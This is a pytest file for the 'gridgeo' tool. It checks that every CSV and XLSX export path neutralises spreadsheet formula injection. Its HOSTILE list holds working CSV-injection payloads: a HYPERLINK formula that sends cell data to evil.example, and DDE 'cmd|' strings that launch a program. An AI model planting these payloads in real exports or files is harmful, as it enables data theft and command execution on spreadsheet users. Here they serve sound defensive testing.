"""Exports a spreadsheet opens (issue 13, item 3): hostile text from reporters, importers and
catalogue editors goes through every export path (``gridgeo export``, ``gridgeo report``
CSV and XLSX, the API's ``format=csv``, the CLI's problem reports) and is read back as a
spreadsheet would read it: no cell may start with a formula character unescaped, numbers
stay numbers, and the events CSV carries neither hashes nor Python reprs.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from gridgeo.api.deps import get_store
from gridgeo.api.main import create_app
from gridgeo.cli import app
from gridgeo.events import EventIn, report_event
from gridgeo.events.catalogue import put_category
from gridgeo.io import export_layer, import_files
from gridgeo.io.exporting import FORMULA_STARTS, neutralise_formulas
from gridgeo.validate import Report
from helpers.authn import headers_for
from helpers.hand_built import G1
from helpers.tiny import V1, X0, Y0

#: What OWASP lists, and what the review found: links, DDE, functions, tab/CR-led formulas.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?")


def unescaped(cells) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character (a number,
    like -12.5, is a number to the spreadsheet)."""
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(c)]


def csv_cells(text: str) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    return rows[0], rows[1:]


def xlsx_cells(path) -> list:
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    return [c.value for c in cells]


def test_neutralise_formulas_quotes_text_not_numbers():
    frame = pd.DataFrame({
        "text": [*HYPHENATED, "a=b", "plain", None],
        "number": [-12.5, 3.0, -1.0, 2.0, 5.0],
        "mixed": [-7, "-x", None, 1.5, "=x"],
    }, index=pd.Index(["=A1", "b", "c", "d", "e"], name="code"))
    out = neutralise_formulas(frame)
    assert list(out["text"][:2]) == ["-12.5", "+8613800000000"]   # plain numbers stay numbers
    assert list(out["text"][2:4]) == ["a=b", "plain"] and pd.isna(out["text"].iloc[4])
    assert out["number"].tolist() == frame["number"].tolist() and out["number"].dtype == float
    assert out["mixed"].tolist()[:2] == [-7, "'-x"] and out["mixed"].iloc[4] == "'=x"
    assert list(out.index) == ["'=A1", "b", "c", "d", "e"]
    assert frame.index[0] == "=A1" and frame["text"].iloc[0] == "-12.5"   # the input is untouched
    for value in HOSTILE:
        assert neutralise_formulas(pd.DataFrame({"v": [value]}))["v"].iloc[0] == "'" + value


HYPHENATED = ["-12.5", "+8613800000000"]


def test_only_plain_numbers_escape_the_quote():
    values = ["-12.5", "+1e3", "-.5", "+86 138 0000 0000", "-1+2", "-2-3", "=1", "+A1", "-", "@x"]
    out = neutralise_formulas(pd.DataFrame({"v": values}))["v"].tolist()
    assert out[:3] == ["-12.5", "+1e3", "-.5"]
    assert out[3:] == ["'" + v for v in values[3:]]


@pytest.fixture
def hostile_store(store, tiny):
    """The tiny township with hostile text in every layer a person writes (imports and
    the intake strip the tab and CR around a value; "=1+1" is left)."""
    cats = tiny["dir"] / "categories.csv"
    cats.write_text("code,name,platform,department,deadline_hours,major,description\n"
                    f'ZZ001,"{HOSTILE[0].replace(chr(34), 2 * chr(34))}",stability,{HOSTILE[3]},72,false,{HOSTILE[1]}\n'
                    "ZF001,违章搭建,enforcement,综合行政执法中队,120,false,\n", encoding="utf-8")
    import_files(store, [tiny["gpkg"], tiny["staff"], cats], plan_version="v1", effective_from=dt.date(2024, 1, 1))
    hh = tiny["dir"] / "households.csv"
    pd.DataFrame({"code": ["H900", "H901"], "address": [HOSTILE[2], HOSTILE[4]],
                  "contact_name": [HOSTILE[3], "钱八"], "contact_phone": ["+8613800000000", "13800000001"],
                  "population": [3, 4], "lon": [X0 + 0.001, X0 + 0.002], "lat": [Y0 + 0.001, Y0 + 0.002]}
                 ).to_csv(hh, index=False)
    staff = tiny["dir"] / "more_staff.csv"
    staff.write_text(f"code,name,phone,role,grid_code\nP9,{HOSTILE[1]},13800000009,part_time_worker,{V1}001\n",
                     encoding="utf-8")
    import_files(store, [hh], crs="wgs84")
    import_files(store, [staff], layer="staff")
    report_event(store, EventIn(source="app", category_code="ZZ001", description=HOSTILE[0], address=HOSTILE[5],
                                reporter_name=HOSTILE[1], lon=X0 + 0.002, lat=Y0 + 0.002))
    report_event(store, EventIn(source="hotline", category_code="ZF001", description=HOSTILE[3], address="某地"))
    return store


@pytest.mark.parametrize("layer", ["households", "categories", "staff", "events", "grids"])
def test_gridgeo_export_csv_is_safe_in_a_spreadsheet(hostile_store, layer, tmp_path):
    path = tmp_path / f"{layer}.csv"
    n = export_layer(hostile_store, layer, path)
    assert n > 0
    header, rows = csv_cells(path.read_text(encoding="utf-8"))
    cells = [c for row in rows for c in row]
    assert not unescaped(cells), unescaped(cells)
    assert not [c for c in cells if c.startswith(("b'", 'b"'))], "a Python bytes repr"
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    if layer == "households":
        h = back.set_index("code")
        assert h.loc["H900", "address"] == "'" + HOSTILE[2] and h.loc["H901", "address"] == "'" + HOSTILE[4].strip()
        assert h.loc["H900", "contact_phone"] == "+8613800000000"      # a plain number, as it was
        assert pd.to_numeric(back["population"]).dtype.kind == "i"      # numbers stay numbers
        assert pd.to_numeric(back["lon"]).between(119, 120).all()
    if layer == "categories":
        c = back.set_index("code").loc["ZZ001"]
        assert (c["name"], c["department"], c["description"]) == ("'" + HOSTILE[0], "'" + HOSTILE[3], "'" + HOSTILE[1])
    if layer == "events":
        assert "reporter_token_hash" not in header and "geometry" not in header
        assert not [h for h in header if h.endswith("_hash") or "token" in h]
        e = back.set_index("description").loc["'" + HOSTILE[0]]
        assert e["address"] == "'" + HOSTILE[5].strip() and e["reporter_name"] == "'" + HOSTILE[1]
        assert float(e["pos_lon"]) == pytest.approx(X0 + 0.002) and float(e["pos_lat"]) == pytest.approx(Y0 + 0.002)


def test_events_export_to_a_geopackage_has_no_secrets(hostile_store, tmp_path):
    import pyogrio

    path = tmp_path / "events.gpkg"
    assert export_layer(hostile_store, "events", path) == 2
    frame = pyogrio.read_dataframe(path)
    assert "reporter_token_hash" not in frame.columns
    assert frame["pos_lon"].dtype.kind == "f"


def test_report_csv_xlsx_and_api_csv_are_safe(hand_built, tmp_path):
    """`gridgeo report` CSV and XLSX, and GET /v1/stats/...?format=csv, with a hostile
    category name (a catalogue edit) and a hostile worker name (an import)."""
    store = hand_built
    put_category(store, "ZZ001", {"name": HOSTILE[0]}, actor="test")
    staff = tmp_path / "staff.csv"
    staff.write_text(f"code,name,phone,role,grid_code\nP9,{HOSTILE[3]},13800000009,part_time_worker,{G1}\n",
                     encoding="utf-8")
    import_files(store, [staff])
    args = ["report", "--period", "2026-Q3", "--as-of", "2026-10-15T00:00:00+08:00", "-d", store.url]
    r = CliRunner().invoke(app, [*args, "--by", "category,worker"])
    assert r.exit_code == 0, r.output
    header, rows = csv_cells(r.stdout)
    cells = [c for row in rows for c in row]
    assert not unescaped(cells) and "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
    assert rows[0][header.index("received")].isdigit()                  # figures are figures
    out = tmp_path / "q3.xlsx"
    r = CliRunner().invoke(app, [*args, "--by", "category,worker", "--format", "xlsx", "--out", str(out)])
    assert r.exit_code == 0, r.output
    values = xlsx_cells(out)
    assert not unescaped(values) and "'" + HOSTILE[0] in values and "'" + HOSTILE[3] in values
    assert any(isinstance(v, (int, float)) and not isinstance(v, bool) for v in values)
    api = create_app()
    api.dependency_overrides[get_store] = lambda: store
    with TestClient(api) as client:
        client.headers.update(headers_for(store, "leadership"))
        r = client.get("/v1/stats/assessment", params={"period": "2026-Q3", "by": "category", "format": "csv",
                                                         "as_of": "2026-10-15T00:00:00+08:00"})
    assert r.status_code == 200, r.text
    header, rows = csv_cells(r.text)
    cells = [c for row in rows for c in row]
    assert not unescaped(cells) and "'" + HOSTILE[0] in cells


def test_problem_reports_are_safe(tmp_path):
    report = Report()
    report.error("=cmd|' /C calc'!A0.csv", "households", 3, "address", "@SUM(1) is not ...")
    path = tmp_path / "problems.csv"
    report.to_csv(path)
    header, rows = csv_cells(path.read_text(encoding="utf-8"))
    assert not unescaped([c for row in rows for c in row])
    assert rows[0][header.index("row")] == "3"


def test_plan_diff_csv_is_safe(hostile_store, tiny, tmp_path):
    """`gridgeo plans diff --out`: addresses that change grid, as a spreadsheet reads them."""
    grids = tiny["grids"].copy()
    v1 = grids["village_code"] == V1
    grids.loc[v1, "code"] = grids.loc[v1, "code"].iloc[::-1].to_numpy()   # the two grids of V1 swap codes
    path = tmp_path / "v2.gpkg"
    grids.to_file(path, layer="grids")
    import_files(hostile_store, [path], plan_version="v2", effective_from=dt.date(2025, 1, 1))
    out = tmp_path / "diff.csv"
    r = CliRunner().invoke(app, ["plan", "diff", "v1", "v2", "--out", str(out), "-d", hostile_store.url])
    assert r.exit_code == 0, r.output
    header, rows = csv_cells(out.read_text(encoding="utf-8"))
    cells = [c for row in rows for c in row]
    assert not unescaped(cells) and "'" + HOSTILE[2] in cells
    assert all(row[header.index("population")].isdigit() for row in rows)
